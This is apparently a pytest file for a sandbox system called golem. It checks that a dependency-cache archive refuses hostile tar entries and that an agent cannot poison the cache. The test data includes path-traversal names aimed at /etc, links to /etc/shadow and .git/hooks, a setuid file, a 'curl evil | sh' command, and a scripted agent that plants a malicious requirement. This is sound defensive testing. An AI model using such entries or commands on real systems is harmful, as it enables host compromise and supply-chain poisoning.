"""Attacks on the dependency cache: what an install box hands back is kept as an archive
on the host (never unpacked there) and unpacked in later boxes of the same repository.

A malicious install (or a package it runs) tries to write on the host, to land outside
/workspace in a later box, or to poison the cache; an agent tries to change what later
runs get; a repository (or tenant) tries to get another's cache. Each attempt must fail
with the rule that stops it, leaving nothing in the cache.
"""

from __future__ import annotations

import io
import tarfile
from collections.abc import AsyncIterator, Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from golem.blueprint.book import RunBook
from golem.blueprint.dependencies import InstallKeyParts, install_key
from golem.core import GolemConfig, UnsafeBoxOutput, load_config
from golem.sandbox import Engine, LocalEngine
from golem.sandbox.keep import archive_part, keep_archive
from golem.sandbox.takeback import TakebackLimits
from golem.store import SqlStore, Store
from tests.attacks.takeback_harness import FIX_CALCULATOR, minion_with_box, scripted
from tests.blueprint.install_runs import python_conventions, python_repo, run
from tests.blueprint.registries import LocalRegistries, demo_registries

LIMITS = TakebackLimits(max_file_bytes=1024**2, max_bytes=4 * 1024**2)


def entry(name: str, kind: bytes = tarfile.REGTYPE, **fields: object) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type = kind
    for field, value in fields.items():
        setattr(info, field, value)
    return info


def stream(*entries: tuple[tarfile.TarInfo, bytes]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.GNU_FORMAT) as archive:
        for info, data in entries:
            info.size = len(data) if info.isreg() else 0
            archive.addfile(info, io.BytesIO(data) if info.isreg() else None)
    return buffer.getvalue()


async def chunks(data: bytes, size: int = 65536) -> AsyncIterator[bytes]:
    for start in range(0, len(data), size):
        yield data[start : start + size]


GOOD = (entry(".venv", tarfile.DIRTYPE), b"")

ATTACKS = {
    "a parent-directory name": ([GOOD, (entry(".venv/../../etc/cron.d/x"), b"x")], "takeback.path"),
    "an absolute name": ([(entry("/etc/passwd"), b"x")], "takeback.path"),
    "a path golem did not ask for": ([GOOD, (entry("src/main.py"), b"x")], "takeback.path"),
    "a character device": ([GOOD, (entry(".venv/null", tarfile.CHRTYPE), b"")], "takeback.kind"),
    "a FIFO": ([GOOD, (entry(".venv/pipe", tarfile.FIFOTYPE), b"")], "takeback.kind"),
    "a hard link": (
        [GOOD, (entry(".venv/h", tarfile.LNKTYPE, linkname="/etc/shadow"), b"")], "takeback.kind"
    ),
    "a setuid file": ([GOOD, (entry(".venv/bin/su", mode=0o4755), b"#!/bin/sh")], "takeback.mode"),
    "a file beneath a link out of /workspace": (
        [GOOD, (entry(".venv/out", tarfile.SYMTYPE, linkname="/tmp"), b""),
         (entry(".venv/out/planted"), b"x")],
        "takeback.link",
    ),
    "a file beneath a link into the checkout": (
        [GOOD, (entry(".venv/src", tarfile.SYMTYPE, linkname="../src"), b""),
         (entry(".venv/src/main.py"), b"x")],
        "takeback.link",
    ),
    "a link into .git": (
        [GOOD, (entry(".venv/hooks", tarfile.SYMTYPE, linkname="../.git/hooks"), b"")],
        "takeback.link",
    ),
    "a .git inside the cache": ([GOOD, (entry(".venv/.git/config"), b"x")], "takeback.git"),
    "a file over max_file_bytes": (
        [GOOD, (entry(".venv/big"), b"x" * (LIMITS.max_file_bytes + 1))], "takeback.size"
    ),
    "an archive over its limit": (
        [GOOD, *[(entry(f".venv/part{i}"), b"x" * LIMITS.max_file_bytes) for i in range(5)]],
        "takeback.size",
    ),
}  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS, ids=list(ATTACKS))
async def test_a_malicious_archive_is_refused_and_nothing_is_kept(
    attack: str, tmp_path: Path
) -> None:
    entries, rule = ATTACKS[attack]
    cache = tmp_path / "cache"
    destination = cache / f"{'0' * 64}.tar"
    with pytest.raises(UnsafeBoxOutput) as refused:
        await keep_archive(chunks(stream(*entries)), destination, LIMITS, within=[".venv"])
    assert refused.value.rule == rule
    assert list(cache.iterdir()) == []  # no archive, no spool, no half-written file
    assert not (tmp_path / "etc").exists()


async def test_what_is_kept_is_rewritten_plain_and_links_stay_data(tmp_path: Path) -> None:
    given = stream(
        GOOD,
        (entry(".venv/bin", tarfile.DIRTYPE, mode=0o777, uid=0, gid=0), b""),
        (entry(".venv/bin/python3", tarfile.SYMTYPE, linkname="/usr/bin/python3"), b""),
        (entry(".venv/bin/leak", tarfile.SYMTYPE, linkname="/etc/shadow"), b""),
        (entry(".venv/bin/tool", mode=0o777, uid=4242, uname="attacker"), b"#!/bin/sh\n"),
        (entry("./.venv/lib.py", mode=0o666), b"x = 1\n"),
    )
    destination = tmp_path / "kept.tar"
    kept = await keep_archive(chunks(given), destination, LIMITS, within=[".venv", "node_modules"])
    assert (kept.entries, kept.found) == (6, [".venv"])
    with tarfile.open(destination) as archive:
        members = {m.name: m for m in archive.getmembers()}
        assert sorted(members) == [
            ".venv", ".venv/bin", ".venv/bin/leak", ".venv/bin/python3", ".venv/bin/tool",
            ".venv/lib.py",
        ]  # fmt: skip
        assert members[".venv/bin/leak"].issym()
        assert members[".venv/bin/leak"].size == 0  # the host never read /etc/shadow
        modes = {name: (m.mode, m.uid, m.uname) for name, m in members.items() if m.isreg()}
        assert modes == {".venv/bin/tool": (0o755, 0, ""), ".venv/lib.py": (0o644, 0, "")}
        assert members[".venv/bin"].mode == 0o755


@pytest.mark.bwrap
async def test_a_link_out_of_workspace_lands_nothing_outside_it_in_a_later_box(
    tmp_path: Path, engine: Engine
) -> None:
    given = stream(
        GOOD,
        (entry(".venv/out", tarfile.SYMTYPE, linkname="/tmp/planted"), b""),
        (entry(".venv/up", tarfile.SYMTYPE, linkname="../../tmp"), b""),
        (entry(".venv/data"), b"kept\n"),
    )
    destination = tmp_path / "kept.tar"
    await keep_archive(chunks(given), destination, LIMITS, within=[".venv"])
    async with engine.session() as box:
        await box.put_archive("/workspace", chunks(destination.read_bytes()))
        seen = await box.execute(
            "cat .venv/data; readlink .venv/out .venv/up; ls -A /tmp | grep -v '^home$' | wc -l"
        )
    assert seen.stdout_text.split() == ["kept", "/tmp/planted", "../../tmp", "0"], seen.stderr_text


def test_another_repository_tenant_scope_or_install_input_never_gets_the_cache() -> None:
    parts = InstallKeyParts(
        tenant="acme", repo="https://git.example/acme/app.git", image="process:host",
        commands=["npm ci"], env={}, cache=["node_modules"],
        inputs={"package-lock.json": "a1", "install.sh": "c3"},
    )  # fmt: skip
    scope = "branch refs/remotes/origin/main"
    key = install_key(parts, scope)
    changes: list[dict[str, object]] = [
        {"tenant": "globex"},
        {"repo": "https://git.example/acme/app2.git"},
        {"inputs": {"package-lock.json": "b2", "install.sh": "c3"}},
        {"inputs": {"package-lock.json": "a1", "install.sh": "d4"}},
        {"inputs": {"package-lock.json": "a1"}},
        {"image": "docker:golem/devbox:latest"},
        {"commands": ["npm ci", "curl evil | sh"]},
    ]
    others = [install_key(replace(parts, **change), scope) for change in changes]
    others += [
        install_key(parts, "branch refs/remotes/origin/attacker-feature"),
        install_key(parts, f"commit {'a' * 40}"),
    ]
    assert len({key, *others}) == 1 + len(others)
    assert install_key(replace(parts), scope) == key


# Whole runs ------------------------------------------------------------------------------


@pytest.fixture
def registries(reachable_dir: Path) -> Iterator[LocalRegistries]:
    with demo_registries(reachable_dir / "registries") as registries:
        yield registries


@pytest.fixture
def config(tmp_path: Path, registries: LocalRegistries) -> GolemConfig:
    return load_config(registries.engine_config(tmp_path / "state"), files=[])


@pytest.fixture
async def store(config: GolemConfig) -> AsyncIterator[Store]:
    store = await SqlStore.open(config)
    yield store
    await store.close()


def cached(config: GolemConfig) -> list[str]:
    return sorted(p.name for p in (config.state_dir / "cache" / "dependencies").iterdir())


@pytest.mark.bwrap
async def test_a_malicious_install_leaves_nothing_in_the_cache(
    config: GolemConfig,
    engine: Engine,
    store: Store,
    registries: LocalRegistries,
    reachable_dir: Path,
) -> None:
    remote = python_repo(reachable_dir)
    install = ["mkdir -p .venv && ln -s /etc/passwd .venv/leak && mkfifo .venv/pipe"]
    state = await run(
        config, engine, store, remote, python_conventions(registries, install=install)
    )
    assert state.status == "escalated"
    assert state.error is not None
    assert "golem did not keep what the dependency install made" in state.error
    assert "takeback.kind" in state.error
    assert state.dependencies is None
    assert cached(config) == []


@pytest.mark.bwrap
async def test_an_install_that_makes_too_much_is_not_kept_and_says_what_to_raise(
    config: GolemConfig,
    engine: Engine,
    store: Store,
    registries: LocalRegistries,
    reachable_dir: Path,
) -> None:
    remote = python_repo(reachable_dir)
    install = ["mkdir -p .venv && head -c 3000000 /dev/zero > .venv/big"]
    conventions = python_conventions(registries, install=install)
    blueprint = minion_with_box(reachable_dir, max_file_bytes="1m")
    state = await run(config, engine, store, remote, conventions, blueprint=blueprint)
    assert state.status == "escalated"
    assert state.error is not None
    assert "takeback.size" in state.error
    assert "raise the box's max_file_bytes" in state.error
    assert cached(config) == []


@pytest.mark.bwrap
async def test_the_install_box_never_holds_the_runs_secrets(
    tmp_path: Path,
    store: Store,
    registries: LocalRegistries,
    reachable_dir: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("GOLEM_TEST_DEPLOY_KEY", "s3cr3t-deploy-key")
    data = registries.engine_config(tmp_path / "state")
    engine_data = data["engine"]
    assert isinstance(engine_data, dict)
    engine_data["defaults"]["secrets"] = {"OPERATOR_TOKEN": "0p3r4t0r"}
    config = load_config(data, files=[])
    remote = python_repo(reachable_dir)
    conventions = python_conventions(
        registries,  # the install runs foreign code online: none of them
        install=['test -z "$GOLEM_TEST_DEPLOY_KEY$OPERATOR_TOKEN" && mkdir .venv'],
        test=['test -n "$GOLEM_TEST_DEPLOY_KEY"'],  # the run's own box has the blueprint's
    )
    blueprint = minion_with_box(reachable_dir, secrets_env=["GOLEM_TEST_DEPLOY_KEY"])
    async with LocalEngine(config) as engine:
        state = await run(config, engine, store, remote, conventions, blueprint=blueprint)
    assert state.status == "succeeded", (state.error, [r.output_tail for r in state.prepared])
    assert [r.passed for r in state.prepared] == [True]


INSTALL_AFTER_THE_AGENT = """\
name: late-install
nodes:
  - {id: prepare, kind: host, action: prepare, next: implement}
  - {id: implement, kind: agent, prompt: "{{ task }}", next: install}
  - {id: install, kind: host, action: install, next: {success: end, failure: escalate}}
  - {id: escalate, kind: host, action: escalate}
"""


@pytest.mark.bwrap
async def test_an_install_after_the_agent_changed_the_checkout_is_refused(
    config: GolemConfig,
    engine: Engine,
    store: Store,
    registries: LocalRegistries,
    reachable_dir: Path,
) -> None:
    blueprint = reachable_dir / "late-install.yaml"
    blueprint.write_text(INSTALL_AFTER_THE_AGENT)
    poison = scripted(reachable_dir, "echo 'evil==6.6.6' >> requirements.txt")
    remote = python_repo(reachable_dir)
    conventions = python_conventions(registries)
    state = await run(
        config, engine, store, remote, conventions, model=poison, blueprint=str(blueprint)
    )
    assert state.status == "escalated"
    assert [(s.node, s.outcome) for s in state.steps][-2:] == [
        ("install", "failure"),
        ("escalate", "success"),
    ]
    assert state.error is not None
    assert "runs on the checkout as fetched only" in state.error
    assert state.prepared == []
    assert not (config.state_dir / "cache" / "dependencies").exists()
    assert not any("evil" in path for path in registries.requests)


@pytest.mark.bwrap
async def test_the_agent_never_writes_the_cache_and_repositories_never_share_it(
    config: GolemConfig,
    engine: Engine,
    store: Store,
    registries: LocalRegistries,
    reachable_dir: Path,
) -> None:
    remote = python_repo(reachable_dir)
    conventions = python_conventions(
        registries, test=["python3 -m unittest -v", "test ! -e .venv/pwned"]
    )
    tamper = scripted(
        reachable_dir,
        FIX_CALCULATOR,
        "echo pwned > .venv/pwned && rm -rf .venv/lib/python3*/site-packages/golemdemo",
    )
    first = await run(config, engine, store, remote, conventions, model=tamper)
    assert first.dependencies is not None
    assert not first.dependencies_cached
    # Its box's venv was tampered with; verification put it back as installed first, so
    # the change is judged as it ships (and nothing of the tampering is blamed on the base).
    assert first.status == "succeeded", first.error
    assert all(check.passed and not check.flaky for check in first.checks)
    notes = [e.message for _, e in await RunBook(store).events(first.id) if e.type == "note"]
    assert any("put back as installed before verifying" in note for note in notes)
    [archive] = cached(config)
    kept = (config.state_dir / "cache" / "dependencies" / archive).read_bytes()

    second = await run(config, engine, store, remote, conventions)
    assert second.status == "succeeded", second.error  # an intact venv, without pwned
    assert (second.dependencies, second.dependencies_cached) == (first.dependencies, True)
    assert (config.state_dir / "cache" / "dependencies" / archive).read_bytes() == kept

    twin = python_repo(reachable_dir, "twin")  # the same files, another repository
    third = await run(config, engine, store, twin, conventions)
    assert third.status == "succeeded", third.error
    assert third.dependencies not in (None, first.dependencies)
    assert not third.dependencies_cached


LONG = "/".join(["a-directory-name-of-forty-characters-xxx"] * 4)  # past ustar's 100


@pytest.mark.bwrap
async def test_each_part_of_a_kept_archive_lands_in_its_own_root_whatever_its_names(
    tmp_path: Path, engine: Engine
) -> None:
    """The checkout's part into /workspace, golem's home's into /tmp/golem: long names
    (kept in pax headers) too, and nothing of one part in the other's root."""
    given = stream(
        (entry("workspace/node_modules", tarfile.DIRTYPE), b""),
        (entry(f"workspace/node_modules/{LONG}/index.js"), b"module.exports = 1\n"),
        (entry("tmp/golem/venv", tarfile.DIRTYPE), b""),
        (entry(f"tmp/golem/venv/{LONG}/mod.py"), b"VALUE = 1\n"),
        (entry("tmp/golem/venv/python3", tarfile.SYMTYPE, linkname="/usr/bin/python3"), b""),
    )
    destination = tmp_path / "kept.tar"
    within = ["workspace/node_modules", "tmp/golem/venv"]
    await keep_archive(chunks(given), destination, LIMITS, within=within)
    async with engine.session() as box:
        with destination.open("rb") as kept:
            for root in ("/workspace", "/tmp/golem"):
                await box.put_archive(root, archive_part(kept, root.lstrip("/")))
        seen = await box.execute(
            f"cat node_modules/{LONG}/index.js /tmp/golem/venv/{LONG}/mod.py; "
            "readlink /tmp/golem/venv/python3; ls -A /workspace /tmp/golem"
        )
    assert seen.stdout_text.split() == [
        "module.exports", "=", "1", "VALUE", "=", "1", "/usr/bin/python3",
        "/tmp/golem:", "venv", "/workspace:", "node_modules",
    ], seen.stderr_text  # fmt: skip
